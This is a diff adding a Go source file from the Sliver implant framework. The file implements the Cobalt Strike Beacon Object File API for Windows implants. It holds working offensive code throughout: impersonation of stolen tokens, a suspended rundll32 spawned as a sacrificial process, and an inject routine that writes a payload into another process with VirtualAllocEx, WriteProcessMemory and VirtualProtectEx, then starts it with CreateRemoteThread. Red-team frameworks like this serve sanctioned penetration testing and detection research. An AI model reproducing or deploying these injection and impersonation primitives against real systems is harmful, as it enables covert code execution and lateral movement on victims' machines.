@@ -0,0 +1,416 @@
+//+build windows
+
+package bof
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"encoding/binary"
+	"sync"
+	"unsafe"
+
+	"github.com/bishopfox/sliver/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	heapZeroMemory   = 0x00000008
+	processAllAccess = windows.STANDARD_RIGHTS_REQUIRED | windows.SYNCHRONIZE | 0xfff
+)
+
+var (
+	bofMutex = &sync.Mutex{}
+	// Output of the running BOF, written to by the beacon API
+	bofOutput bytes.Buffer
+
+	beaconAPIOnce sync.Once
+	beaconAPIs    map[string]uintptr
+
+	msvcrt         = windows.NewLazySystemDLL("msvcrt.dll")
+	scprintf       = msvcrt.NewProc("_scprintf")
+	snprintf       = msvcrt.NewProc("_snprintf")
+	kernel32       = windows.NewLazySystemDLL("kernel32.dll")
+	createProcessA = kernel32.NewProc("CreateProcessA")
+
+	spawnTo    = `C:\Windows\System32\rundll32.exe`
+	spawnTo386 = `C:\Windows\SysWOW64\rundll32.exe`
+)
+
+// beaconBuffer - The datap and formatp structs of beacon.h
+type beaconBuffer struct {
+	original uintptr
+	buffer   uintptr
+	length   int32
+	size     int32
+}
+
+// processInformation - PROCESS_INFORMATION
+type processInformation struct {
+	process  windows.Handle
+	thread   windows.Handle
+	pid      uint32
+	threadID uint32
+}
+
+// beaconAPI - Callbacks implementing the functions of beacon.h, created once
+// because callbacks are never released
+func beaconAPI() map[string]uintptr {
+	beaconAPIOnce.Do(func() {
+		beaconAPIs = map[string]uintptr{
+			"BeaconDataParse":              windows.NewCallback(beaconDataParse),
+			"BeaconDataInt":                windows.NewCallback(beaconDataInt),
+			"BeaconDataShort":              windows.NewCallback(beaconDataShort),
+			"BeaconDataLength":             windows.NewCallback(beaconDataLength),
+			"BeaconDataExtract":            windows.NewCallback(beaconDataExtract),
+			"BeaconFormatAlloc":            windows.NewCallback(beaconFormatAlloc),
+			"BeaconFormatReset":            windows.NewCallback(beaconFormatReset),
+			"BeaconFormatFree":             windows.NewCallback(beaconFormatFree),
+			"BeaconFormatAppend":           windows.NewCallback(beaconFormatAppend),
+			"BeaconFormatPrintf":           windows.NewCallback(beaconFormatPrintf),
+			"BeaconFormatToString":         windows.NewCallback(beaconFormatToString),
+			"BeaconFormatInt":              windows.NewCallback(beaconFormatInt),
+			"BeaconPrintf":                 windows.NewCallback(beaconPrintf),
+			"BeaconOutput":                 windows.NewCallback(beaconOutput),
+			"BeaconUseToken":               windows.NewCallback(beaconUseToken),
+			"BeaconRevertToken":            windows.NewCallback(beaconRevertToken),
+			"BeaconIsAdmin":                windows.NewCallback(beaconIsAdmin),
+			"BeaconGetSpawnTo":             windows.NewCallback(beaconGetSpawnTo),
+			"BeaconSpawnTemporaryProcess":  windows.NewCallback(beaconSpawnTemporaryProcess),
+			"BeaconInjectProcess":          windows.NewCallback(beaconInjectProcess),
+			"BeaconInjectTemporaryProcess": windows.NewCallback(beaconInjectTemporaryProcess),
+			"BeaconCleanupProcess":         windows.NewCallback(beaconCleanupProcess),
+			"toWideChar":                   windows.NewCallback(toWideChar),
+		}
+	})
+	return beaconAPIs
+}
+
+func boolResult(ok bool) uintptr {
+	if ok {
+		return 1
+	}
+	return 0
+}
+
+// sprintf - Format with the C runtime, the variadic arguments are passed on
+// as they were received so floats work as well
+func sprintf(format uintptr, args ...uintptr) []byte {
+	length, _, _ := scprintf.Call(append([]uintptr{format}, args...)...)
+	if int32(length) <= 0 {
+		return []byte{}
+	}
+	buf := make([]byte, int32(length)+1)
+	snprintf.Call(append([]uintptr{uintptr(unsafe.Pointer(&buf[0])), uintptr(len(buf)), format}, args...)...)
+	return buf[:int32(length)]
+}
+
+// void BeaconDataParse(datap *parser, char *buffer, int size)
+func beaconDataParse(parser uintptr, buffer uintptr, size uintptr) uintptr {
+	data := (*beaconBuffer)(unsafe.Pointer(parser))
+	data.original = buffer
+	data.buffer = buffer + 4
+	data.length = int32(size) - 4
+	if data.length < 0 {
+		data.length = 0
+	}
+	data.size = data.length
+	return 0
+}
+
+// int BeaconDataInt(datap *parser)
+func beaconDataInt(parser uintptr) uintptr {
+	data := (*beaconBuffer)(unsafe.Pointer(parser))
+	if data.length < 4 {
+		return 0
+	}
+	value := int32(binary.LittleEndian.Uint32(memory(data.buffer, 4)))
+	data.buffer += 4
+	data.length -= 4
+	return uintptr(value)
+}
+
+// short BeaconDataShort(datap *parser)
+func beaconDataShort(parser uintptr) uintptr {
+	data := (*beaconBuffer)(unsafe.Pointer(parser))
+	if data.length < 2 {
+		return 0
+	}
+	value := int16(binary.LittleEndian.Uint16(memory(data.buffer, 2)))
+	data.buffer += 2
+	data.length -= 2
+	return uintptr(value)
+}
+
+// int BeaconDataLength(datap *parser)
+func beaconDataLength(parser uintptr) uintptr {
+	return uintptr((*beaconBuffer)(unsafe.Pointer(parser)).length)
+}
+
+// char *BeaconDataExtract(datap *parser, int *size)
+func beaconDataExtract(parser uintptr, size uintptr) uintptr {
+	data := (*beaconBuffer)(unsafe.Pointer(parser))
+	if data.length < 4 {
+		return 0
+	}
+	length := int32(binary.LittleEndian.Uint32(memory(data.buffer, 4)))
+	if length < 0 || data.length-4 < length {
+		return 0
+	}
+	value := data.buffer + 4
+	data.buffer += 4 + uintptr(length)
+	data.length -= 4 + length
+	if size != 0 {
+		*(*int32)(unsafe.Pointer(size)) = length
+	}
+	return value
+}
+
+// void BeaconFormatAlloc(formatp *format, int maxsz)
+func beaconFormatAlloc(format uintptr, maxSize uintptr) uintptr {
+	buffer := (*beaconBuffer)(unsafe.Pointer(format))
+	heap, err := syscalls.GetProcessHeap()
+	if err != nil {
+		return 0
+	}
+	addr, err := syscalls.HeapAlloc(heap, heapZeroMemory, uintptr(int32(maxSize)))
+	if err != nil {
+		return 0
+	}
+	buffer.original = addr
+	buffer.buffer = addr
+	buffer.length = 0
+	buffer.size = int32(maxSize)
+	return 0
+}
+
+// void BeaconFormatReset(formatp *format)
+func beaconFormatReset(format uintptr) uintptr {
+	buffer := (*beaconBuffer)(unsafe.Pointer(format))
+	if buffer.original != 0 {
+		data := memory(buffer.original, int(buffer.size))
+		for index := range data {
+			data[index] = 0
+		}
+	}
+	buffer.buffer = buffer.original
+	buffer.length = 0
+	return 0
+}
+
+// void BeaconFormatFree(formatp *format)
+func beaconFormatFree(format uintptr) uintptr {
+	buffer := (*beaconBuffer)(unsafe.Pointer(format))
+	if buffer.original != 0 {
+		heap, err := syscalls.GetProcessHeap()
+		if err == nil {
+			syscalls.HeapFree(heap, 0, buffer.original)
+		}
+	}
+	*buffer = beaconBuffer{}
+	return 0
+}
+
+func (b *beaconBuffer) append(data []byte) {
+	if b.original == 0 {
+		return
+	}
+	if int(b.size-b.length) < len(data) {
+		data = data[:b.size-b.length]
+	}
+	copy(memory(b.buffer, len(data)), data)
+	b.buffer += uintptr(len(data))
+	b.length += int32(len(data))
+}
+
+// void BeaconFormatAppend(formatp *format, char *text, int len)
+func beaconFormatAppend(format uintptr, text uintptr, length uintptr) uintptr {
+	if 0 < int32(length) {
+		(*beaconBuffer)(unsafe.Pointer(format)).append(memory(text, int(int32(length))))
+	}
+	return 0
+}
+
+// void BeaconFormatPrintf(formatp *format, char *fmt, ...)
+func beaconFormatPrintf(format uintptr, fmt uintptr, a0, a1, a2, a3, a4, a5, a6, a7, a8, a9, a10, a11 uintptr) uintptr {
+	(*beaconBuffer)(unsafe.Pointer(format)).append(sprintf(fmt, a0, a1, a2, a3, a4, a5, a6, a7, a8, a9, a10, a11))
+	return 0
+}
+
+// char *BeaconFormatToString(formatp *format, int *size)
+func beaconFormatToString(format uintptr, size uintptr) uintptr {
+	buffer := (*beaconBuffer)(unsafe.Pointer(format))
+	if size != 0 {
+		*(*int32)(unsafe.Pointer(size)) = buffer.length
+	}
+	return buffer.original
+}
+
+// void BeaconFormatInt(formatp *format, int value)
+func beaconFormatInt(format uintptr, value uintptr) uintptr {
+	buf := make([]byte, 4)
+	binary.BigEndian.PutUint32(buf, uint32(value))
+	(*beaconBuffer)(unsafe.Pointer(format)).append(buf)
+	return 0
+}
+
+// void BeaconPrintf(int type, char *fmt, ...)
+func beaconPrintf(outputType uintptr, fmt uintptr, a0, a1, a2, a3, a4, a5, a6, a7, a8, a9, a10, a11 uintptr) uintptr {
+	bofOutput.Write(sprintf(fmt, a0, a1, a2, a3, a4, a5, a6, a7, a8, a9, a10, a11))
+	return 0
+}
+
+// void BeaconOutput(int type, char *data, int len)
+func beaconOutput(outputType uintptr, data uintptr, length uintptr) uintptr {
+	if 0 < int32(length) {
+		bofOutput.Write(memory(data, int(int32(length))))
+	}
+	return 0
+}
+
+// BOOL BeaconUseToken(HANDLE token)
+func beaconUseToken(token uintptr) uintptr {
+	return boolResult(syscalls.ImpersonateLoggedOnUser(windows.Token(token)) == nil)
+}
+
+// void BeaconRevertToken()
+func beaconRevertToken() uintptr {
+	windows.RevertToSelf()
+	return 0
+}
+
+// BOOL BeaconIsAdmin()
+func beaconIsAdmin() uintptr {
+	return boolResult(windows.GetCurrentProcessToken().IsElevated())
+}
+
+// void BeaconGetSpawnTo(BOOL x86, char *buffer, int length)
+func beaconGetSpawnTo(x86 uintptr, buffer uintptr, length uintptr) uintptr {
+	path := spawnTo
+	if x86 != 0 {
+		path = spawnTo386
+	}
+	if buffer == 0 || int(int32(length)) <= len(path) {
+		return 0
+	}
+	copy(memory(buffer, len(path)+1), append([]byte(path), 0))
+	return 0
+}
+
+// BOOL BeaconSpawnTemporaryProcess(BOOL x86, BOOL ignoreToken, STARTUPINFO *si, PROCESS_INFORMATION *pInfo)
+func beaconSpawnTemporaryProcess(x86 uintptr, ignoreToken uintptr, startupInfo uintptr, processInfo uintptr) uintptr {
+	path := spawnTo
+	if x86 != 0 {
+		path = spawnTo386
+	}
+	commandLine := append([]byte(path), 0)
+	ok, _, _ := createProcessA.Call(0, uintptr(unsafe.Pointer(&commandLine[0])), 0, 0, 1,
+		windows.CREATE_SUSPENDED|windows.CREATE_NO_WINDOW, 0, 0, startupInfo, processInfo)
+	return boolResult(ok != 0)
+}
+
+// void BeaconInjectProcess(HANDLE hProc, int pid, char *payload, int p_len, int p_offset, char *arg, int a_len)
+func beaconInjectProcess(process uintptr, pid uintptr, payload uintptr, payloadLen uintptr, offset uintptr, arg uintptr, argLen uintptr) uintptr {
+	handle := windows.Handle(process)
+	if handle == 0 {
+		var err error
+		handle, err = windows.OpenProcess(processAllAccess, false, uint32(pid))
+		if err != nil {
+			return 0
+		}
+		defer windows.CloseHandle(handle)
+	}
+	inject(handle, memory(payload, int(int32(payloadLen))), uintptr(int32(offset)), arg, int(int32(argLen)))
+	return 0
+}
+
+// void BeaconInjectTemporaryProcess(PROCESS_INFORMATION *pInfo, char *payload, int p_len, int p_offset, char *arg, int a_len)
+func beaconInjectTemporaryProcess(processInfo uintptr, payload uintptr, payloadLen uintptr, offset uintptr, arg uintptr, argLen uintptr) uintptr {
+	info := (*processInformation)(unsafe.Pointer(processInfo))
+	inject(info.process, memory(payload, int(int32(payloadLen))), uintptr(int32(offset)), arg, int(int32(argLen)))
+	return 0
+}
+
+// void BeaconCleanupProcess(PROCESS_INFORMATION *pInfo)
+func beaconCleanupProcess(processInfo uintptr) uintptr {
+	info := (*processInformation)(unsafe.Pointer(processInfo))
+	windows.CloseHandle(info.process)
+	windows.CloseHandle(info.thread)
+	return 0
+}
+
+// BOOL toWideChar(char *src, wchar_t *dst, int max)
+func toWideChar(src uintptr, dst uintptr, max uintptr) uintptr {
+	if src == 0 || dst == 0 || int32(max) < 2 {
+		return 0
+	}
+	end := bytes.IndexByte(memory(src, 1<<20), 0)
+	if end < 0 {
+		return 0
+	}
+	wide, err := windows.UTF16FromString(string(memory(src, end)))
+	if err != nil {
+		return 0
+	}
+	if int(int32(max))/2 < len(wide) {
+		wide = append(wide[:int32(max)/2-1], 0)
+	}
+	for index, char := range wide {
+		binary.LittleEndian.PutUint16(memory(dst+uintptr(2*index), 2), char)
+	}
+	return 1
+}
+
+// inject - Write the payload and its argument into a process and start a
+// thread at offset into the payload
+func inject(process windows.Handle, payload []byte, offset uintptr, arg uintptr, argLen int) {
+	if len(payload) == 0 {
+		return
+	}
+	addr, err := syscalls.VirtualAllocEx(process, uintptr(0), uintptr(len(payload)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	if err != nil {
+		return
+	}
+	var written uintptr
+	err = syscalls.WriteProcessMemory(process, addr, &payload[0], uintptr(len(payload)), &written)
+	if err != nil {
+		return
+	}
+	var oldProtect uint32
+	err = syscalls.VirtualProtectEx(process, addr, uintptr(len(payload)), windows.PAGE_EXECUTE_READ, &oldProtect)
+	if err != nil {
+		return
+	}
+	argAddr := uintptr(0)
+	if arg != 0 && 0 < argLen {
+		argAddr, err = syscalls.VirtualAllocEx(process, uintptr(0), uintptr(argLen), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+		if err != nil {
+			return
+		}
+		err = syscalls.WriteProcessMemory(process, argAddr, &memory(arg, argLen)[0], uintptr(argLen), &written)
+		if err != nil {
+			return
+		}
+	}
+	var threadID uint32
+	thread, err := syscalls.CreateRemoteThread(process, nil, 0, addr+offset, argAddr, 0, &threadID)
+	if err == nil {
+		windows.CloseHandle(thread)
+	}
+}